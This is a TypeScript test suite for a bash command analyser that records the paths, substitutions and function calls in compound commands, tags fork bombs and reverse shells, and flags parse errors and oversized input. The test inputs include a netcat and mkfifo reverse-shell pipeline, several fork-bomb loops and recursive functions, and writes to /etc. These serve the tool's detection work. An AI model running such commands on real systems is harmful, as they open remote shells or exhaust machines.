// Walking the shell's syntax tree (src/facts/extract/walk.ts): every command of every compound
// (bash(1): subshells keep their cd to themselves, brace groups do not; if/elif/else, while and
// until, for and select, (( )), case, [[ ]], functions, coprocesses, a redirected compound),
// commands inside substitutions in any of their words, background loops that spawn without end,
// a shell and a network tool in one pipeline, and the limits of depth and size. Written by hand.
import { resolveContext } from "../src/context.js";
import { extractFacts } from "../src/facts/extract.js";
import type { CommandFacts } from "../src/types.js";
import { uncertain } from "./roles.js";

// cwd /workspace, home /root
const ctx = resolveContext({});
const facts = (cmd: string) => extractFacts(cmd, ctx);
const show = (c: CommandFacts): string =>
  `${c.program} ${c.paths.map((p) => p.path).join(",")} ${c.via.join(",")}`.trim();
const lines = (cmd: string): string[] => facts(cmd).commands.map(show);

describe("compound commands", () => {
  it.each([
    ["(cd /tmp; rm a); rm b", ["rm /tmp/a", "rm /workspace/b"]],
    ["{ cd /tmp; rm a; }; rm b", ["rm /tmp/a", "rm /tmp/b"]],
    [
      "if rm /tmp/c; then rm /tmp/d; elif rm /tmp/e; then rm /tmp/f; else rm /tmp/g; fi",
      ["rm /tmp/c", "rm /tmp/d", "rm /tmp/e", "rm /tmp/f", "rm /tmp/g"],
    ],
    ["if rm /tmp/c; then rm /tmp/d; fi", ["rm /tmp/c", "rm /tmp/d"]],
    ["while rm /tmp/h; do rm /tmp/i; done", ["rm /tmp/h", "rm /tmp/i"]],
    ["until rm /tmp/h; do rm /tmp/i; done", ["rm /tmp/h", "rm /tmp/i"]],
    ["for f in $(rm /tmp/j); do rm $f; done", ["rm /tmp/j substitution", "rm $f"]],
    ["select f in $(rm /tmp/j); do rm $f; done", ["rm /tmp/j substitution", "rm $f"]],
    [
      "for ((i=$(rm /tmp/l); i<$(rm /tmp/m); i++)); do rm x; done",
      ["rm /tmp/l substitution", "rm /tmp/m substitution", "rm /workspace/x"],
    ],
    [
      "case $(rm /tmp/m) in a) rm /tmp/n;; b) rm /tmp/o;; esac",
      ["rm /tmp/m substitution", "rm /tmp/n", "rm /tmp/o"],
    ],
    ["[[ -e $(rm /tmp/o) ]]", ["rm /tmp/o substitution"]],
    [
      "[[ $(rm /tmp/p) == x && ! -f $(rm /tmp/q) ]]",
      ["rm /tmp/p substitution", "rm /tmp/q substitution"],
    ],
    [
      "[[ ( -f $(rm /tmp/p) ) || $(rm /tmp/q) ]]",
      ["rm /tmp/p substitution", "rm /tmp/q substitution"],
    ],
    [
      "(( $(rm /tmp/r) > 1 ? 2 : -$(rm /tmp/s) ))",
      ["rm /tmp/r substitution", "rm /tmp/s substitution"],
    ],
    ["(( (x + $(rm /tmp/t)) ))", ["rm /tmp/t substitution"]],
    ["coproc rm /tmp/u", ["rm /tmp/u"]],
    ["coproc x { rm /tmp/v; }", ["rm /tmp/v"]],
    ["rm a && rm b || rm c", ["rm /workspace/a", "rm /workspace/b", "rm /workspace/c"]],
  ])("%s", (cmd, want) => {
    expect(lines(cmd)).toEqual(want);
  });

  it("a for loop's variable is unknown inside it, whatever it held before", () => {
    expect(lines("X=/tmp/k; for X in a; do rm $X; done")).toEqual(["", "rm $X"]);
  });

  it("a function's body is read where it is defined and where it is called", () => {
    expect(lines("f() { rm /tmp/t; }; f")).toEqual(["rm /tmp/t", "rm /tmp/t function f"]);
    expect(lines("f() { rm /tmp/t; }")).toEqual(["rm /tmp/t"]);
  });

  it("a redirected compound writes its target, whatever its commands print", () => {
    const line = facts("{ echo x; } > /etc/w").commands;
    expect(line.map((c) => c.program)).toEqual(["echo", ""]);
    expect(line[1]!.redirects.map((r) => `${r.target} ${r.write}`)).toEqual(["/etc/w true"]);
    expect(facts("(echo x) 2>&1").commands.map((c) => c.program)).toEqual(["echo"]);
  });
});

describe("background loops that spawn without end", () => {
  it.each(["while true; do x & done", "while :; do x & done", "for ((;;)); do y & done"])(
    "%s",
    (cmd) => {
      const last = facts(cmd).commands.at(-1)!;
      expect(last.program).toBe("");
      expect(last.tags).toEqual(["fork-bomb"]);
      expect(last.text).toBe(cmd);
    },
  );
  it.each([
    "while true; do x; done",
    "for ((i=0; i<3; i++)); do y & done",
    "until false; do x; done",
  ])("not %s", (cmd) => {
    expect(facts(cmd).commands.flatMap((c) => c.tags)).not.toContain("fork-bomb");
  });
});

describe("a shell and a network tool in one pipeline", () => {
  it("every command of the pipeline is tagged reverse-shell", () => {
    const line = facts("mkfifo /tmp/f; nc h 1 < /tmp/f | sh > /tmp/f").commands;
    expect(line.map((c) => [c.program, c.tags.includes("reverse-shell")])).toEqual([
      ["mkfifo", false],
      ["nc", true],
      ["sh", true],
    ]);
    expect(
      facts("nc -l 1 | bash | nc h 2").commands.every((c) => c.tags.includes("reverse-shell")),
    ).toBe(true);
  });
  it.each(["nc h 1 | bash -c ls", "echo x | nc h 1", "cat f | sh", "nc h 1; sh"])(
    "not %s",
    (cmd) => {
      const tagged = facts(cmd).commands.filter(
        (c) => c.program === "nc" && c.tags.includes("reverse-shell"),
      );
      expect(tagged).toEqual([]);
    },
  );
  it("a pipeline nested deeper is judged at its own depth", () => {
    const line = facts('sh -c "nc h 1 | sh"').commands;
    expect(line.filter((c) => c.depth === 1).every((c) => c.tags.includes("reverse-shell"))).toBe(
      true,
    );
    expect(line.find((c) => c.depth === 0)!.tags).not.toContain("reverse-shell");
  });
});

describe("background commands and pipelines run concurrently", () => {
  it("a function that starts itself in the background or in a pipeline is a fork bomb", () => {
    expect(facts("f() { f & }; f").commands.flatMap((c) => c.tags)).toContain("fork-bomb");
    expect(facts("f() { f | cat; }; f").commands.flatMap((c) => c.tags)).toContain("fork-bomb");
    expect(facts("f() { cat | f; }; f").commands.flatMap((c) => c.tags)).not.toContain("fork-bomb");
  });
  it("each command of a pipeline has its own scope", () => {
    expect(lines("cd /tmp | rm a")).toEqual(["rm /workspace/a"]);
    expect(lines("X=/tmp/a | rm $X")).toEqual(["", "rm $X"]);
  });
});

describe("limits", () => {
  it("a syntax error is uncertain", () => {
    expect(uncertain('rm "')).toEqual(["parse-error"]);
    expect(uncertain("rm a")).toEqual([]);
  });
  it("nesting deeper than 8 levels is uncertain", () => {
    let cmd = "rm /tmp/x";
    for (let i = 0; i < 10; i++) cmd = `echo $(${cmd})`;
    expect(uncertain(cmd)).toContain("too-deep");
    let ok = "rm /tmp/x";
    for (let i = 0; i < 7; i++) ok = `echo $(${ok})`;
    expect(uncertain(ok)).toEqual([]);
    expect(facts(ok).commands.find((c) => c.program === "rm")!.depth).toBe(7);
  });
  it("more than 400 simple commands is uncertain", () => {
    expect(uncertain(Array.from({ length: 420 }, (_, i) => `rm /tmp/${i}`).join("; "))).toContain(
      "too-large",
    );
    expect(uncertain(Array.from({ length: 300 }, (_, i) => `rm /tmp/${i}`).join("; "))).toEqual([]);
  });
});
